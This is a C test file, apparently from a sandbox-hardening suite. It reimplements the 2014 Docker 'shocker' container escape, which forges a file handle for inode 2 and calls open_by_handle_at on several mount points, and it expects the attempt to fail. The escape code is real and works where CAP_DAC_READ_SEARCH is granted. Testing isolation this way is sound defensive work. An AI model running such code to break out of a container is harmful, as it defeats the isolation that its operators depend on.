// SPDX-License-Identifier: Apache-2.0
// Tries:      to reach files of a file system without their path, by handles ("shocker").
// Known from: Docker 2014, open_by_handle_at with CAP_DAC_READ_SEARCH.
// Must:       fail.
// Control:    root
// Behind:     no capability
#include "attack.h"

static void try(const char *path) {
  union { struct file_handle handle; char space[sizeof(struct file_handle) + MAX_HANDLE_SZ]; } h = {.handle.handle_bytes = MAX_HANDLE_SZ};
  int id, mount = open(path, O_RDONLY | O_DIRECTORY);
  // Inode 2 is the root of ext file systems; a handle of the directory itself where they may be made.
  if (name_to_handle_at(AT_FDCWD, path, &h.handle, &id, 0)) {
    h.handle.handle_bytes = 8;
    h.handle.handle_type = 1;
    memcpy(h.handle.f_handle, (uint32_t[]){2, 0}, 8);
  }
  if (open_by_handle_at(mount, &h.handle, O_RDONLY) >= 0) won("opened a handle of %s", path);
  if (mount >= 0) close(mount);
}

int main(void) {
  // An overlay has no handles; one of the others is a file system that has them.
  const char *const paths[] = {"/usr", "/", "/tmp", "/dev", "/dev/shm", "/run"};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) try(paths[i]);
  held();
}
